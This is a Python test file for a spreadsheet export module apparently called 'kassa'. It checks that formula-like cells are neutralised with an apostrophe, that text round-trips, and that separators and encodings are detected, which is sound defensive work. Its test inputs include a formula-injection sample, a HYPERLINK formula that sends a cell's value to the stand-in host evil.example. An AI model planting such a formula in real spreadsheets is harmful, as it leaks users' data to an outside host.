"""Cells and files for spreadsheets: nothing live in them, and all of it comes back."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import kassa
from kassa.core.spreadsheets import SEPARATORS, create_file, open_file, read_cell, write_cell, write_rows

LIVE = [
    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]  # fmt: skip
REWRITTEN = ["007", "1234567890123456", "1E5", "3-4", "1/2", "2024-05-31", "31/05/2024", "12:30"]
LEFT_ALONE = ["45.00", "1", "0", "0.50", "O'Neil", "'t Hart", "", "'", "Ada", "12A", "2024-05-31T18:30:00Z"]
TEXTS = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"])) | st.text(
    "'=+-@\t\r\n ,;\"0129.:/E"
)


@pytest.mark.parametrize("text", LIVE + REWRITTEN)
def test_cells_that_would_be_changed_stand_behind_an_apostrophe(text: str) -> None:
    assert write_cell(text) == f"'{text}"
    assert read_cell(f"'{text}") == text


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_other_cells_are_left_alone(text: str) -> None:
    assert write_cell(text) == text
    assert read_cell(text) == text


def test_dates_with_points_are_such_where_semicolons_part_cells() -> None:
    assert [write_cell(text, separator=";") for text in ("1.5", "31.05.2024", "45,00")] == [
        "'1.5",
        "'31.05.2024",
        "45,00",
    ]
    assert write_cell("1.5") == "1.5"


@given(text=TEXTS, separator=st.sampled_from(SEPARATORS))
def test_any_text_comes_back(text: str, separator: str) -> None:
    written = write_cell(text, separator=separator)

    assert read_cell(written) == text
    assert not written.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


@given(
    rows=st.lists(st.lists(TEXTS, min_size=2, max_size=4), min_size=1, max_size=4),
    separator=st.sampled_from(SEPARATORS),
)
def test_any_file_comes_back(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]], separator: str
) -> None:
    path = tmp_path_factory.mktemp("sheets") / "rows.csv"
    heading = ["name", "price", "date"]
    with create_file(path) as file:
        write_rows(file, [heading, *rows], separator=separator)

    with open_file(path) as found:
        read = [[read_cell(cell) for cell in row] for row in found.rows]

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert (found.separator, read) == (separator, [heading, *rows])


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be"])
@pytest.mark.parametrize(
    ("text", "separator"),
    [
        ("a,b;c\n1,2\n", ","),
        ("a;b\n1;2\n", ";"),
        ("a\tb\n1\t2\n", "\t"),
        ('"a;;;",b\n1,2\n', ","),
        ("sep=;\na;b\n1;2\n", ";"),
        ('"sep=|"\r\na|b\r\n1|2\r\n', "|"),
        ("SEP=\t\na\tb\n1\t2\n", "\t"),
    ],
)
def test_files_of_spreadsheets_are_read(tmp_path: Path, text: str, separator: str, encoding: str) -> None:
    path = tmp_path / "file.csv"
    bom = "\ufeff" if encoding == "utf-16-be" else ""
    path.write_bytes((bom + text).encode(encoding))

    with open_file(path) as found:
        rows = list(found.rows)

    assert found.separator == separator
    assert rows[-1] == ["1", "2"]
    assert found.lines_before == (1 if "sep" in text.lower() else 0)


def test_another_encoding_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "file.csv"
    path.write_bytes("name,city\nZoë,Łódź\n".encode("utf-16-le"))

    with pytest.raises((UnicodeDecodeError, csv.Error)), open_file(path) as found:
        list(found.rows)


def test_nothing_else_writes_files_for_spreadsheets() -> None:
    source = Path(kassa.__file__).parent
    writers = [path.name for path in source.rglob("*.py") if "csv.writer(" in path.read_text()]

    assert writers == ["spreadsheets.py"]
